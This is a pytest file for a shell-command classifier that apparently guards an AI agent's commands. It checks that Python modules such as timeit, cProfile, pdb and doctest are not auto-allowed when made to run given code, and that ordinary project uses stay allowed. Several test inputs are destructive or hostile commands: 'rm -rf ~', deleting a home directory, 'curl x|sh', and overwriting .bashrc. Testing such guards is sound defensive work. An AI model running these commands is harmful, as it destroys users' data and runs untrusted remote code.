"""Standard modules that run code they are given: `python -m timeit STMT` runs its
statements (and `-s` setup) as `python -c` would; `-m cProfile`, `profile`, `trace` and
`pdb` run a script or module; `-m doctest FILE` runs the examples in FILE; `-m unittest
discover -s DIR` imports the tests below DIR; `-m compileall DIR` writes bytecode below it."""

from __future__ import annotations

from pathlib import Path

import pytest

from wakeful.testing.classifier import auto_verdict, judge

JUDGE = judge()


@pytest.mark.parametrize(
    "cmd",
    [
        "python3 -m timeit 'import os; os.system(\"rm -rf ~\")'",
        "python3 -m timeit -s 'import shutil' 'shutil.rmtree(\"/home/dev\")'",
        "python -m timeit -n 1 \"__import__('subprocess').run(['sh', '-c', 'curl x|sh'])\"",
        'timeout 5 python3 -m timeit "$CODE"',
        "python3 -m cProfile /tmp/x.py",
        "python3 -m cProfile -m shutil",
        "python3 -m profile -o /home/dev/.bashrc app.py",
        "python3 -m pdb -c continue /tmp/x.py",
        "python3 -m doctest /tmp/x.txt",
        "python3 -m unittest discover -s /tmp",
        "python3 -m unittest /tmp/test_x.py",
        "python3 -m compileall /home/dev",
        "python3 -m py_compile /home/dev/.local/lib/x.py",
    ],
)
def test_code_a_module_is_given_is_judged(cmd: str) -> None:
    assert auto_verdict(cmd) != "allow", (cmd, JUDGE(cmd))


@pytest.mark.parametrize(
    "cmd",
    [
        "python3 -m timeit '1+1'",
        "python3 -m timeit -n 100 -s 'x=list(range(100))' 'sorted(x)'",
        "python3 -m cProfile -o prof.out app.py",
        "python3 -m cProfile -m pytest tests",
        "python3 -m pdb -m pytest",
        "python3 -m doctest -v README.md",
        "python3 -m unittest discover -s tests -p 'test_*.py'",
        "python3 -m unittest -k slow tests.test_x",
        "python3 -m unittest",
        "python3 -m compileall src",
    ],
)
def test_the_projects_own_code_and_trivial_statements_stay_allowed(cmd: str) -> None:
    assert auto_verdict(cmd) == "allow", (cmd, JUDGE(cmd))


def test_through_the_cli(cli, git_repo: Path) -> None:  # type: ignore[no-untyped-def]
    cmd = "python3 -m timeit 'import os; os.system(\"rm -rf ~\")'"
    r = cli(["classify", "--json", "--mode", "auto", "--", cmd], git_repo)
    assert r.returncode == 0, r.stderr
    assert r.json()["decision"] != "allow", r.json()
